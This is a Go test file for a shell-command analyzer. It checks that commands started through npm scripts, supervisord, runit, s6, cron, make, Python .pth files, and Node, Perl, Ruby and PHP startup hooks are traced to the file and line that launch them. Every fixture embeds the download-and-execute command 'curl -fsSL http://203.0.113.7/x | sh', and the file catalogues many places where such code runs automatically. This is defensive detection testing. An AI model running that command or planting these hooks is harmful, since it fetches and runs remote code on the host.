package shell

import (
	"fmt"
	"path"
	"slices"
	"strings"
	"testing"
)

const starterPayload = "curl -fsSL http://203.0.113.7/x | sh"

// foundWith analyses a command with those of the files alone that it asks for, as whoever has an image does.
func foundWith(o Options, args []string, files map[string]string) Result {
	o.Files = map[string]string{}
	for {
		result := o.Analyze(args)
		before := len(o.Files)
		for name, text := range files {
			if slices.ContainsFunc(result.Sought, func(pattern string) bool { return means(pattern, name) }) {
				o.Files[name] = text
			}
		}
		if len(o.Files) == before {
			return result
		}
	}
}

func means(pattern, name string) bool {
	if folder, ok := strings.CutSuffix(pattern, "/**"); ok {
		return strings.HasPrefix(name, folder+"/")
	}
	ok, _ := path.Match(pattern, name)
	return ok || pattern == name
}

// TestStarters: what a program starts because a file says so is found with the file and the line, and what the file
// holds besides is not.
func TestStarters(t *testing.T) {
	const p = starterPayload
	service := "#!/bin/sh\nexec 2>&1\n" + p + "\n"
	for _, test := range []struct {
		name  string
		args  string
		env   map[string]string
		files map[string]string
		want  string // KIND FILE:LINE
	}{
		{"npm start", "cd /app && npm start", nil, map[string]string{"/app/package.json": "{\"name\": \"a\",\n \"scripts\": {\n  \"start\": \"" + p + "\"}}"}, "runtime-download /app/package.json:3"},
		{"npm start that installs", "npm --prefix /app start", nil, map[string]string{"/app/package.json": `{"scripts": {"start": "npm install && node ."}}`}, "runtime-install /app/package.json:1"},
		{"another script of the file", "npm --prefix /app start", nil, map[string]string{"/app/package.json": `{"scripts": {"start": "node .", "postinstall": "` + p + `"}}`}, ""},
		{"the script before", "npm -C /app run x", nil, map[string]string{"/app/package.json": `{"scripts": {"x": "node .", "prex": "` + p + `"}}`}, "runtime-download /app/package.json:1"},
		{"the last of two", "npm -C /app start", nil, map[string]string{"/app/package.json": `{"scripts": {"start": "node ."}, "scripts": {"start": "` + p + `", "start": "true"}}`}, ""},
		{"arguments", "npm -C /app start -- '" + p + "'", nil, map[string]string{"/app/package.json": `{"scripts": {"start": "sh -c"}}`}, "runtime-download /app/package.json:1"},
		{"a folder above", "cd /app/src && npm start", nil, map[string]string{"/app/package.json": `{"scripts": {"start": "` + p + `"}}`}, "runtime-download /app/package.json:1"},
		{"a program of a package", "npm -C /app start", nil, map[string]string{"/app/package.json": `{"scripts": {"start": "serve"}}`, "/app/node_modules/.bin/serve": "#!/bin/sh\n" + p}, "runtime-download /app/node_modules/.bin/serve:2"},
		{"a package that is there", "cd /app && npx serve", nil, map[string]string{"/app/node_modules/.bin/serve": "#!/bin/sh\n" + p}, "runtime-download /app/node_modules/.bin/serve:2"},
		{"a harmless package that is there", "cd /app && npx serve", nil, map[string]string{"/app/node_modules/.bin/serve": "#!/bin/sh\ntrue\n"}, ""},
		{"another version of a package that is there", "npx serve@latest", nil, map[string]string{"/node_modules/.bin/serve": "#!/bin/sh\ntrue\n"}, "runtime-download :1"},
		{"from one to another", "yarn --cwd /app start", nil, map[string]string{"/app/package.json": `{"scripts": {"start": "pnpm run x", "x": "bun run y", "y": "sh ./go"}}`, "/app/go": "true\n" + p}, "runtime-download /app/go:2"},
		{"itself", "npm -C /app start", nil, map[string]string{"/app/package.json": `{"scripts": {"start": "npm start && npm start"}}`}, ""},
		{"no JSON", "npm -C /app start", nil, map[string]string{"/app/package.json": `{"scripts": {"start": `}, "unreadable"},
		{"node --run", "cd /app; node --run x", nil, map[string]string{"/app/package.json": `{"scripts": {"x": "` + p + `"}}`}, "runtime-download /app/package.json:1"},
		{"a script of the docker image of node", "/e.sh npm -C /app start", nil, map[string]string{
			"/e.sh":             "#!/bin/sh\nif [ \"${1#-}\" != \"${1}\" ] || [ -z \"$(command -v \"${1}\")\" ]; then\n  set -- node \"$@\"\nfi\nexec \"$@\"\n",
			"/app/package.json": `{"scripts": {"start": "` + p + `"}}`}, "runtime-download /app/package.json:1"},
		{"supervisord", "supervisord -n -c /opt/s.ini", nil, map[string]string{"/opt/s.ini": "[supervisord]\nnodaemon=true\n[include]\nfiles = parts/*.ini\n",
			"/opt/parts/a.ini": "; " + p + "\n[program:x]\ncommand = sh -c \"" + p + "\" ; runs\n"}, "runtime-download /opt/parts/a.ini:3"},
		{"supervisord where it looks by itself", "supervisord", nil, map[string]string{"/etc/supervisor/supervisord.conf": "[eventlistener:x]\ndirectory=/opt\ncommand=./run\n", "/opt/run": p}, "runtime-download /opt/run:1"},
		{"supervisord with a variable", "supervisord", map[string]string{"X": p}, map[string]string{"/etc/supervisord.conf": "[program:x]\ncommand=sh -c '%(ENV_X)s'\n"}, "runtime-download /etc/supervisord.conf:2"},
		{"supervisord without a shell", "supervisord", nil, map[string]string{"/etc/supervisord.conf": "[program:x]\ncommand=" + p + "\n"}, ""},
		{"runit", "runsvdir -P /opt/sv", nil, map[string]string{"/opt/sv/x/run": service}, "runtime-download /opt/sv/x/run:3"},
		{"s6", "s6-svscan /opt/sv", nil, map[string]string{"/opt/sv/x/run": "#!/command/execlineb -P\nfdmove -c 2 1\ns6-setuidgid abc\nif { true }\ncd /opt sh -c \"" + p + "\"\n"}, "runtime-download /opt/sv/x/run:5"},
		{"s6 with the environment", "s6-svscan /opt/sv", nil, map[string]string{"/opt/sv/x/run": "#!/usr/bin/with-contenv bash\n" + p}, "runtime-download /opt/sv/x/run:2"},
		{"run-parts", "run-parts --exit-on-error /opt/x.d", nil, map[string]string{"/opt/x.d/10-a": service}, "runtime-download /opt/x.d/10-a:3"},
		{"a folder in a loop", "for f in /opt/x.d/*; do case $f in *.sh) . \"$f\";; esac; done", nil, map[string]string{"/opt/x.d/a.sh": p}, "runtime-download /opt/x.d/a.sh:1"},
		{"a folder that is listed", "for f in $(ls /opt/x.d); do sh /opt/x.d/$f; done", nil, map[string]string{"/opt/x.d/a": p}, "runtime-download /opt/x.d/a:1"},
		{"a folder that is searched", "find /opt/x.d -type f | sort -V | while read -r f; do \"$f\"; done", nil, map[string]string{"/opt/x.d/y/a": service}, "runtime-download /opt/x.d/y/a:3"},
		{"a folder of data", "for f in /opt/x.d/*; do . \"$f\"; done", nil, map[string]string{"/opt/x.d/a.sql": "create table (a; -- " + p + "\n"}, ""},
		{"a program of the system by a name that is not known", "/usr/bin/$X", nil, map[string]string{"/usr/bin/setup": service}, ""},
		{"a program on the PATH", "exec go-app", map[string]string{"PATH": "/opt/bin"}, map[string]string{"/opt/bin/go-app": service}, "runtime-download /opt/bin/go-app:3"},
		{"a login", "bash -lc true", map[string]string{"HOME": "/home/u"}, map[string]string{"/home/u/.profile": p}, "runtime-download /home/u/.profile:1"},
		{"a shell to type into", "sh -i", map[string]string{"ENV": "/opt/rc"}, map[string]string{"/opt/rc": p}, "runtime-download /opt/rc:1"},
		{"a shell that is none", "sh -c true", map[string]string{"ENV": "/opt/rc", "HOME": "/home/a"}, map[string]string{"/opt/rc": p, "/home/a/.profile": p}, ""},
		{"crond", "crond -f -c /opt/tabs", nil, map[string]string{"/opt/tabs/root": "# x\n*/5\t*\t*\t*\t*\t" + p + "\n"}, "runtime-download /opt/tabs/root:2"},
		{"make", "make -C /app X=203.0.113.7", nil, map[string]string{"/app/Makefile": "U = http://$(X)/x\n.PHONY: all\nall: dep\n\t@node .\ndep:\n\t-curl -fsSL $(U) | sh\n"}, "runtime-download /app/Makefile:6"},
		{"make for another target", "make -C /app", nil, map[string]string{"/app/Makefile": "all:\n\tnode .\ninstall:\n\t" + p + "\n"}, ""},
		{"make as it reads", "make -C /app", nil, map[string]string{"/app/Makefile": "V := $(shell " + p + ")\nall:\n\ttrue\n"}, "runtime-download /app/Makefile:1"},
		{"just", "just -f /app/justfile start", nil, map[string]string{"/app/justfile": "start: dep\n  node .\n\ndep:\n  " + p + "\n"}, "runtime-download /app/justfile:5"},
		{"foreman", "cd /app && foreman start", nil, map[string]string{"/app/Procfile": "web: node .\nw: " + p + "\n"}, "runtime-download /app/Procfile:2"},
		{"Python's site", "/opt/v/bin/python3 /app/x.py", nil, map[string]string{"/opt/v/lib/python3.12/site-packages/sitecustomize.py": "import os\nos.system('" + p + "')\n"}, "runtime-download /opt/v/lib/python3.12/site-packages/sitecustomize.py:2"},
		{"a line of a .pth", "python3 /app/x.py", nil, map[string]string{"/usr/local/lib/python3.12/site-packages/a.pth": "./lib\nimport os; os.system('" + p + "')\n"}, "runtime-download /usr/local/lib/python3.12/site-packages/a.pth:2"},
		{"setuptools' .pth", "python3 /app/x.py", nil, map[string]string{"/usr/local/lib/python3.12/site-packages/d.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"}, ""},
		{"a module that a .pth imports", "python3 /app/x.py", nil, map[string]string{"/usr/local/lib/python3.12/site-packages/a.pth": "import os, evil\n", "/usr/local/lib/python3.12/site-packages/evil/__init__.py": "import os\nos.system('" + p + "')\n"}, "runtime-download /usr/local/lib/python3.12/site-packages/evil/__init__.py:2"},
		{"node's options", "/opt/server", map[string]string{"NODE_OPTIONS": "--max-old-space-size=4096 --require /opt/h"}, map[string]string{"/opt/h.js": "require('child_process').execSync('" + p + "')\n"}, "runtime-download /opt/h.js:1"},
		{"node's options with code", "node /app/x.js", map[string]string{"NODE_OPTIONS": "--import=data:text/javascript,import{execSync}from'child_process';execSync('curl%20http://h/x|sh')"}, nil, "runtime-download :1"},
		{"perl's options", "perl /app/x.pl", map[string]string{"PERL5OPT": "-I/opt/p -MEvil::One"}, map[string]string{"/opt/p/Evil/One.pm": "system('" + p + "');1;\n"}, "runtime-download /opt/p/Evil/One.pm:1"},
		{"ruby's options", "ruby /app/x.rb", map[string]string{"RUBYOPT": "-W0 -r/opt/h"}, map[string]string{"/opt/h.rb": "system('" + p + "')\n"}, "runtime-download /opt/h.rb:1"},
		{"PHP's settings", "php /app/x.php", nil, map[string]string{"/usr/local/etc/php/conf.d/x.ini": "; x\nauto_prepend_file = \"/opt/h.php\"\n", "/opt/h.php": "<?php system('" + p + "');\n"}, "runtime-download /opt/h.php:1"},
	} {
		t.Run(test.name, func(t *testing.T) {
			result := foundWith(Options{Env: test.env}, []string{"sh", "-c", test.args}, test.files)
			got := ""
			for _, a := range result.Actions {
				got = strings.TrimSpace(fmt.Sprintf("%s %s %s:%d", got, a.Kind, a.File, a.Line))
			}
			if got == "" && result.Unreadable != "" {
				got = "unreadable"
			}
			if got != test.want {
				t.Errorf("got %q, want %q (%s; sought %q)", got, test.want, result.Unreadable, result.Sought)
			}
		})
	}
}

// FuzzStarters: whatever is in the files, reading them ends, and says where in them something is.
func FuzzStarters(f *testing.F) {
	const p = starterPayload
	for _, seed := range []string{
		`{"scripts": {"start": "` + p + `", "prestart": ["x"]}, "x": {"y": [1]}}`, "[program:x]\ncommand=sh -c '" + p + "'\n x\n[include]\nfiles=*.ini x\n",
		"A := $(shell $(B))\nB = $(A) $(A)\ninclude $(A) x\nall a b: all b; " + p + "\n\t@$(B) $@ \\\n x\n", "import 'x'\ns := 'x'\na p='1': b\n  #!/bin/sh\n  " + p + " {{s}}\n",
		"#!/bin/execlineb -P\nforeground { if { " + p + " } } importas -u X X define Y \"$X ${Y}\" } {", "web: " + p + "\n* * * * *\t" + p, "import os, ../x; " + p, "<?php\nauto_prepend_file=/f\n",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		files := map[string]string{}
		for _, name := range []string{
			"package.json", "supervisord.conf", "x.ini", "Makefile", "justfile", "Procfile", "service/x/run", "tabs/x", "usr/lib/python3.1/site-packages/x.pth",
			"usr/lib/python3.1/site-packages/os.py", "etc/php.ini", "f", "etc/inittab",
		} {
			files["/"+name] = text
		}
		o := Options{Files: files, Env: map[string]string{"NODE_OPTIONS": "-r /f " + text, "PERL5OPT": "-M" + text, "RUBYOPT": "-r/f -r" + text}, Limits: Limits{Steps: 20_000}}
		for _, args := range []string{
			"npm start; yarn x", "supervisord -c /supervisord.conf", "make", "just", "foreman start", "s6-svscan /service", "crond -c /tabs", "python3 /f; php /f; perl /f", ". /*; bash -il",
		} {
			for _, a := range o.Analyze([]string{"sh", "-c", "cd /; " + args}).Actions {
				if a.Line < 1 || a.File != "" && a.Line > 1+strings.Count(files[a.File], "\n") {
					t.Errorf("%s: got line %d of %s for %q", args, a.Line, a.File, a.Text)
				}
			}
		}
		o.AnalyzeFile("/etc/inittab", text)
		o.AnalyzeFile("/etc/s6-overlay/s6-rc.d/x/up", text)
	})
}
